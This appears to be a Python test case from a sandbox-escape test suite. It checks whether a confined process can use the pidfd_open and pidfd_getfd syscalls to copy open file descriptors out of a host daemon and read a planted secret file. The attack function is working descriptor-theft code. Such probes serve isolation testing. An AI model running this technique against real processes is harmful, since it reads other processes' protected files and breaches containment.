"""
id: e-pidfd
class: e
title: copy an open file out of a host process (pidfd_getfd)
source: pidfd_open, pidfd_getfd
"""
from esc import *


def setup(x):
    secret = x.plant(x.o("held"), mode=0o600)
    name = "escv" + x.token[-8:]
    pid, _, fd = x.daemon("victim", name, "-", secret).split()
    os.rename(secret, secret + ".moved")
    x.param("pid", int(pid))
    x.param("fd", int(fd))
    x.param("name", name)


def attack(x):
    for pid in {x["pid"], victim_pid(x["name"])} - {None}:
        fd = x.attempt(syscall, 434, pid, 0)
        if fd:
            for number in range(0, 32):
                copy = x.attempt(syscall, 438, fd, number, 0)
                if copy:
                    x.loot(os.pread(copy, 4096, 0) if number == x["fd"] else b"")


def verdict(x):
    return x.leaked()


main(globals())
